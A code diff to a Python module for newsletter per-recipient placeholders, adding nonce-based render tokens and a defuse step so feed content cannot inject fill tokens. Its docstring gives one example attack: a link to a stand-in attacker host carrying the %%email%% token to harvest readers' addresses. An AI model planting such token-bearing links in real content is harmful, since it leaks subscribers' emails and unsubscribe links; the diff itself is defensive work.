@@ -1,16 +1,29 @@
 """Per-recipient placeholders: the issue is rendered once with these in it and each backend fills them.
 
-The `%%NAME%%` form survives Jinja autoescaping, the MJML compilers and HTML attribute quoting unchanged,
-and never occurs in ordinary prose.
+The `%%NAME%%` form survives Jinja autoescaping, the MJML compilers and HTML attribute quoting unchanged.
+
+Only the templates may place one. Feed text is the feed author's (a link `https://attacker.example/?e=%%email%%`
+would otherwise carry every reader's address and unsubscribe link to the attacker), so `render_issue` renders
+with per-render tokens that content cannot know (`%%email.<nonce>%%`) and then, in the finished HTML and text,
+first defuses every fixed-form token that is left (content's, however it was spelled before the MJML compiler
+decoded it) and only then turns its own into the fixed form the backends fill. The fill is plain string
+replacement (outbox, SMTP) or SendGrid's substitutions, both literal, so a defused token stays inert.
 """
 
 from __future__ import annotations
+
+import re
+import secrets
 
 UNSUBSCRIBE_URL = "%%unsubscribe_url%%"
 EMAIL = "%%email%%"
 NAME = "%%name%%"
 
 ALL = {"unsubscribe_url": UNSUBSCRIBE_URL, "email": EMAIL, "name": NAME}
+
+# Any text a backend could take for a token: `%%email%%`, SendGrid's `%%email:html%%`, and longer look-alikes.
+_FIXED = re.compile(r"%%(?=(?:" + "|".join(ALL) + r"))")
+_DEFUSED = "%%\u2060"  # a word joiner after the marks: reads the same, matches no token
 
 
 def fill(body: str, values: dict[str, str]) -> str:
@@ -19,3 +32,22 @@ def fill(body: str, values: dict[str, str]) -> str:
         if token in body:
             body = body.replace(token, values.get(key, ""))
     return body
+
+
+def defuse(text: str) -> str:
+    """`text` with every token-like mark broken (for content: titles, subjects, anything from a feed)."""
+    return _FIXED.sub(_DEFUSED, text)
+
+
+def render_tokens() -> dict[str, str]:
+    """Fresh tokens for one render, unknowable to the content being rendered."""
+    nonce = secrets.token_hex(6)  # 48 bits, drawn after the content was fixed: nothing to guess it from
+    return {key: f"%%{key}.{nonce}%%" for key in ALL}
+
+
+def finish(rendered: str, own: dict[str, str]) -> str:
+    """Defuse content's tokens in a finished render, then turn the render's own tokens into the fixed form."""
+    rendered = defuse(rendered)
+    for key, token in own.items():
+        rendered = rendered.replace(defuse(token), ALL[key])
+    return rendered
